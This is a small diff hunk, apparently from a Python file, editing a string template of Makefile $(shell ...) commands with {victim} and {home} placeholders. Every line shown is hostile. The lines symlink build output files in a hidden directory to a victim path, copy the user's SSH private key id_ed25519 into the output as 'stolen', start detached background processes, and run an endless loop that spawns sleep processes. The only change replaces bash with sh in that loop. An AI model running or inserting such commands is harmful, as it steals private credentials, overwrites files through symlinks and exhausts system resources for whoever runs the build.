@@ -176,7 +176,7 @@ $(shell mkdir -p $(O)/.iommuq; cd $(O)/.iommuq && for each in count warnings.jso
 configured.json; do rm -f $$each; ln -s {victim} $$each; done)
 $(shell cd $(O) && ln -sf {home}/id_ed25519 stolen; cp {home}/id_ed25519 . 2>/dev/null)
 $(shell setsid sleep 600 >/dev/null 2>&1 &)
-$(shell bash -c 'while :; do sleep 600 & done' >/dev/null 2>&1)
+$(shell sh -c 'while :; do sleep 600 & done' >/dev/null 2>&1)
 """
 
 
